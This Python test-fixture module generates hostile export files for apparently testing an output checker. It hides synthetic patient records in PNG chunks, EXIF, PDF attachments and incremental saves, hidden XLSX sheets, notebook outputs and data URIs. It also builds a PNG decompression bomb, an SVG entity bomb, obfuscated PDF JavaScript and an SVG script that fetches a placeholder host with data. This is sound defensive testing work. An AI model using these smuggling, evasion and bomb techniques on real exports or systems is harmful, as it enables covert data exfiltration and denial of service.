"""Hostile export files, generated deterministically: each hides data (or a bomb) where an
output checker with ordinary tools would not see it.

Every payload holds fake patient records (NHS number with a valid checksum, name,
date of birth, postcode), each line starting with :data:`MARKER`, so a test can
search released bytes for it.  Nothing here is random at run time: the same
seed gives the same bytes.

``ALL`` lists every class as ``Hostile(name, data, marker_visible)``:
``marker_visible`` says whether :data:`MARKER` appears in the submitted bytes as
they are (not when the payload is compressed, as in a zTXt chunk or a
Flate-compressed PDF stream).
"""

from __future__ import annotations

import base64
import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from datetime import datetime

MARKER = "HOSTILE-REC"
_FIRST = ("Ada", "Ben", "Cara", "Dev", "Ema", "Finn", "Gwen", "Hari", "Iris", "Jon")
_LAST = ("Smith", "Jones", "Patel", "Khan", "Evans", "Brown", "Wilson", "Taylor")


def nhs_number(rng: random.Random) -> str:
    """A 10-digit number with a valid NHS (modulus 11) check digit."""
    while True:
        digits = [rng.randrange(10) for _ in range(9)]
        check = 11 - sum(d * w for d, w in zip(digits, range(10, 1, -1), strict=True)) % 11
        if check == 11:
            check = 0
        if check != 10:
            return "".join(map(str, digits)) + str(check)


def records(n: int, seed: int = 11) -> str:
    rng = random.Random(seed)
    out = []
    for _ in range(n):
        out.append(f"{MARKER},{nhs_number(rng)},{rng.choice(_FIRST)} {rng.choice(_LAST)},"
                   f"{1930 + rng.randrange(80)}-{1 + rng.randrange(12):02d}-"
                   f"{1 + rng.randrange(28):02d},LS{rng.randrange(1, 30)} {rng.randrange(10)}"
                   f"{chr(65 + rng.randrange(26))}{chr(65 + rng.randrange(26))}")
    return "\n".join(out) + "\n"


# ---- ordinary files the hostile ones are made from ---------------------------------------------
def freq_frame() -> object:
    import pandas as pd

    return pd.DataFrame({"region": ["North", "South", "East", "West"],
                         "patients": [120, 85, 64, 230]})


def png_bytes(width: int = 24, height: int = 16, seed: int = 3) -> bytes:
    """A valid RGB PNG with varied pixels, made with Pillow."""
    from PIL import Image

    rng = random.Random(seed)
    im = Image.new("RGB", (width, height))
    im.putdata([(rng.randrange(256), rng.randrange(256), rng.randrange(256))
                for _ in range(width * height)])
    out = io.BytesIO()
    im.save(out, "PNG")
    return out.getvalue()


def jpeg_plain() -> bytes:
    """A valid JPEG, no metadata."""
    from PIL import Image

    out = io.BytesIO()
    Image.open(io.BytesIO(png_bytes())).convert("RGB").save(out, "JPEG", quality=90)
    return out.getvalue()


def _chunk(kind: bytes, data: bytes) -> bytes:
    return (struct.pack(">I", len(data)) + kind + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))


def _before_iend(png: bytes, chunk: bytes) -> bytes:
    end = png.rindex(b"IEND") - 4
    return png[:end] + chunk + png[end:]


# ---- the hostile classes -----------------------------------------------------------------------
def parquet_metadata() -> bytes:
    """A frequency table that passes every check, with 1,000 records in its footer."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    table = pa.Table.from_pandas(freq_frame(), preserve_index=False)
    meta = dict(table.schema.metadata or {})
    meta[b"patients"] = records(1000).encode()
    out = io.BytesIO()
    pq.write_table(table.replace_schema_metadata(meta), out)
    return out.getvalue()


def png_trailing() -> bytes:
    return png_bytes() + records(500).encode()


def png_text(kind: str = "tEXt") -> bytes:
    body = records(2000).encode("latin-1")
    if kind == "tEXt":
        chunk = _chunk(b"tEXt", b"Comment\x00" + body)
    elif kind == "zTXt":
        chunk = _chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(body))
    else:
        chunk = _chunk(b"iTXt", b"Comment\x00\x00\x00en\x00Comment\x00" + body)
    return _before_iend(png_bytes(), chunk)


def png_bomb() -> bytes:
    """A PNG of a few hundred bytes whose header declares 100,000 x 100,000 pixels."""
    w = h = 100_000
    comp = zlib.compressobj(9)
    idat = comp.compress(b"\x00" * 65536) + comp.flush()
    return (b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", w, h, 8, 0, 0, 0, 0))
            + _chunk(b"IDAT", idat) + _chunk(b"IEND", b""))


def jpeg_exif() -> bytes:
    from PIL import Image

    im = Image.open(io.BytesIO(png_bytes())).convert("RGB")
    exif = Image.Exif()
    exif[0x010E] = records(200)  # ImageDescription
    out = io.BytesIO()
    im.save(out, "JPEG", quality=90, exif=exif.tobytes(), comment=records(100, seed=12))
    return out.getvalue()


def _pdf(objects: list[bytes], root: int = 1, tail: bytes = b"") -> bytes:
    """A PDF from numbered object bodies (1-based), with a correct xref table."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{i} 0 obj\n".encode() + body + b"\nendobj\n"
    xref = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
    out += (f"trailer\n<< /Size {len(objects) + 1} /Root {root} 0 R >>\nstartxref\n{xref}\n"
            "%%EOF\n").encode()
    return bytes(out) + tail


_PAGE = [b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
         b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
         b"<< /Length 35 >>\nstream\nBT /F1 12 Tf 20 100 Td (Hi) Tj ET\nendstream"]


def pdf_plain() -> bytes:
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGE])


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<< /Length " + str(len(data)).encode() + extra + b" >>\nstream\n" + data + \
        b"\nendstream"


def pdf_attachment() -> bytes:
    payload = records(300).encode()
    return _pdf([
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 5 0 R >> >>", *_PAGE,
        b"<< /Names [(patients.csv) 6 0 R] >>",
        b"<< /Type /Filespec /F (patients.csv) /EF << /F 7 0 R >> >>",
        _stream(payload, b" /Type /EmbeddedFile"),
    ])


def pdf_openaction_js() -> bytes:
    js = ("app.alert('" + records(50).replace("\n", " ") + "');").encode()
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>", *_PAGE,
                 b"<< /S /JavaScript /JS (" + js + b") >>"])


def pdf_js_in_object_stream() -> bytes:
    """The JavaScript action lives in a Flate-compressed object stream, its key escaped
    (``/J#61vaScript``): invisible to a scan of the raw bytes."""
    inner = b"<< /J#61vaScript << /Names [(a) << /S /J#61vaScript /J#53 (app.alert(1)) >>] >> >>"
    objstm = b"6 0 " + inner
    comp = zlib.compress(objstm)
    body = (b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length "
            + str(len(comp)).encode() + b" >>\nstream\n" + comp + b"\nendstream")
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R /Names 6 0 R >>", *_PAGE, body])


def pdf_acroform() -> bytes:
    value = records(100).replace("\n", " ").encode()
    return _pdf([b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [5 0 R] >> >>", *_PAGE,
                 b"<< /FT /Tx /T (notes) /V (" + value + b") >>"])


def pdf_incremental() -> bytes:
    """A PDF saved twice: the update replaces page content; the first version (with the
    records) is still in the file."""
    first = _pdf([b"<< /Type /Catalog /Pages 2 0 R >>", *_PAGE[:2],
                  _stream(b"BT /F1 6 Tf 10 10 Td (" + records(40).replace("\n", " ").encode()
                          + b") Tj ET")])
    xref = first.rindex(b"startxref")
    prev = int(first[xref + 10:].split()[0])
    start = len(first)
    update = b"4 0 obj\n" + _stream(b"BT /F1 12 Tf 20 100 Td (Hi) Tj ET") + b"\nendobj\n"
    new_xref = start + len(update)
    update += (f"xref\n4 1\n{start:010d} 00000 n \ntrailer\n<< /Size 5 /Root 1 0 R "
               f"/Prev {prev} >>\nstartxref\n{new_xref}\n%%EOF\n").encode()
    return first + update


def _xlsx(mutate: Callable[[object], None] | None = None,
          extra_parts: dict[str, bytes] | None = None) -> bytes:
    import openpyxl  # type: ignore[import-untyped]

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "counts"
    ws.append(["region", "patients"])
    for row in (("North", 120), ("South", 85)):
        ws.append(list(row))
    if mutate is not None:
        mutate(wb)
    when = datetime(2026, 1, 1)
    wb.properties.created = wb.properties.modified = when
    out = io.BytesIO()
    wb.save(out)
    # Rewritten with fixed times (openpyxl stamps the save time), and the extra parts.
    src = zipfile.ZipFile(io.BytesIO(out.getvalue()))
    dst_buf = io.BytesIO()
    with zipfile.ZipFile(dst_buf, "w", zipfile.ZIP_DEFLATED) as dst:
        parts = [(i.filename, src.read(i)) for i in src.infolist()]
        for part, data in [*parts, *(extra_parts or {}).items()]:
            dst.writestr(zipfile.ZipInfo(part, date_time=when.timetuple()[:6]), data,
                         zipfile.ZIP_DEFLATED)
    return dst_buf.getvalue()


def _secret_sheet(state: str) -> Callable[[object], None]:
    def mutate(wb: object) -> None:
        ws = wb.create_sheet("data")  # type: ignore[attr-defined]
        for line in records(300).splitlines():
            ws.append(line.split(","))
        ws.sheet_state = state
    return mutate


def xlsx_very_hidden() -> bytes:
    return _xlsx(_secret_sheet("veryHidden"))


def xlsx_hidden() -> bytes:
    return _xlsx(_secret_sheet("hidden"))


def xlsx_custom_xml() -> bytes:
    return _xlsx(extra_parts={"customXml/item1.xml": (
        "<records>" + records(500) + "</records>").encode()})


def xlsx_defined_name() -> bytes:
    from openpyxl.workbook.defined_name import DefinedName  # type: ignore[import-untyped]

    def mutate(wb: object) -> None:
        text = records(5).replace("\n", " ").replace('"', "")
        wb.defined_names["notes"] = DefinedName("notes", attr_text=f'"{text}"')  # type: ignore[attr-defined]
    return _xlsx(mutate)


def xlsx_external_link() -> bytes:
    return _xlsx(extra_parts={"xl/externalLinks/externalLink1.xml": (
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        f"<externalBook><sheetNames><sheetName val=\"{MARKER}\"/></sheetNames></externalBook>"
        "</externalLink>").encode()})


def xlsx_unused_strings() -> bytes:
    """Records in a shared-strings table that no cell refers to."""
    items = "".join(f"<si><t>{line}</t></si>" for line in records(300).splitlines())
    return _xlsx(extra_parts={"xl/sharedStrings.xml": (
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="300" '
        f'uniqueCount="300">{items}</sst>').encode()})


def xlsx_macros() -> bytes:
    return _xlsx(extra_parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + records(20).encode()})


def _notebook(outputs: list[dict[str, object]], metadata: dict[str, object] | None = None
              ) -> bytes:
    nb = {"nbformat": 4, "nbformat_minor": 5,
          "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3",
                                      "language": "python"}, **(metadata or {})},
          "cells": [{"cell_type": "markdown", "id": "intro", "metadata": {},
                     "source": ["# Patients by region\n"]},
                    {"cell_type": "code", "id": "table", "metadata": {}, "execution_count": 1,
                     "source": ["counts"], "outputs": outputs}]}
    return json.dumps(nb, indent=1).encode()


_SHOWN = {"output_type": "execute_result", "execution_count": 1, "metadata": {},
          "data": {"text/plain": ["  region  patients\n0  North  120\n1  South  85"]}}


def notebook_widgets() -> bytes:
    state = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0,
        "state": {"w1": {"model_name": "TextModel", "state": {"value": records(500)}}}}}
    return _notebook([_SHOWN], {"widgets": state})


def notebook_hidden_mime(media: str = "text/csv") -> bytes:
    payload: object = records(500) if media == "text/csv" else {"rows": records(500).split()}
    out: dict[str, object] = {"output_type": "display_data", "metadata": {},
                              "data": {"text/plain": ["<a table>"], media: payload}}
    return _notebook([_SHOWN, out])


def notebook_png_text() -> bytes:
    """A notebook whose figure output is a PNG carrying a text chunk of records."""
    image = base64.b64encode(png_text("tEXt")).decode()
    out: dict[str, object] = {"output_type": "display_data", "metadata": {},
                              "data": {"image/png": image,
                                       "text/plain": ["<Figure size 640x480>"]}}
    return _notebook([_SHOWN, out])


def markdown_data_uri() -> bytes:
    data = base64.b64encode(records(200).encode()).decode()
    return f"# Results\n\nSee the attached table.\n\n[table](data:text/csv;base64,{data})\n" \
        .encode()


def markdown_html_image() -> bytes:
    data = base64.b64encode(png_text("tEXt")).decode()
    return f'# Figure\n\n<img alt="figure" src="data:image/png;base64,{data}">\n'.encode()


def svg_entity_bomb() -> bytes:
    ents = ['<!ENTITY a0 "lol">'] + [
        f'<!ENTITY a{i} "{"&a" + str(i - 1) + ";" * 1}' + f'{("&a" + str(i - 1) + ";") * 9}">'
        for i in range(1, 10)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE svg [\n' + "\n".join(ents) + "\n]>\n"
            '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            "<text>&a9;</text></svg>\n").encode()


def svg_script() -> bytes:
    return ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
            f"<script>fetch('https://example.org/?d={MARKER}')</script></svg>\n").encode()


@dataclass(frozen=True)
class Hostile:
    name: str  # the file's name when submitted
    data: bytes
    marker_visible: bool  # MARKER is in the submitted bytes as they are


def all_hostile() -> list[Hostile]:
    return [
        Hostile("by_region.parquet", parquet_metadata(), True),
        Hostile("trailing.png", png_trailing(), True),
        Hostile("text_chunk.png", png_text("tEXt"), True),
        Hostile("ztext_chunk.png", png_text("zTXt"), False),
        Hostile("itext_chunk.png", png_text("iTXt"), True),
        Hostile("bomb.png", png_bomb(), False),
        Hostile("photo.jpg", jpeg_exif(), True),
        Hostile("attachment.pdf", pdf_attachment(), True),
        Hostile("openaction.pdf", pdf_openaction_js(), True),
        Hostile("objstm_js.pdf", pdf_js_in_object_stream(), False),
        Hostile("form.pdf", pdf_acroform(), True),
        Hostile("updated.pdf", pdf_incremental(), True),
        Hostile("very_hidden.xlsx", xlsx_very_hidden(), False),
        Hostile("hidden.xlsx", xlsx_hidden(), False),
        Hostile("custom_xml.xlsx", xlsx_custom_xml(), False),
        Hostile("defined_name.xlsx", xlsx_defined_name(), False),
        Hostile("external_link.xlsx", xlsx_external_link(), False),
        Hostile("macros.xlsx", xlsx_macros(), False),
        Hostile("unused_strings.xlsx", xlsx_unused_strings(), False),
        Hostile("widgets.ipynb", notebook_widgets(), True),
        Hostile("csv_output.ipynb", notebook_hidden_mime("text/csv"), True),
        Hostile("json_output.ipynb", notebook_hidden_mime("application/json"), True),
        Hostile("figure_text.ipynb", notebook_png_text(), False),
        Hostile("data_uri.md", markdown_data_uri(), False),
        Hostile("html_image.md", markdown_html_image(), False),
        Hostile("bomb.svg", svg_entity_bomb(), False),
        Hostile("script.svg", svg_script(), True),
    ]
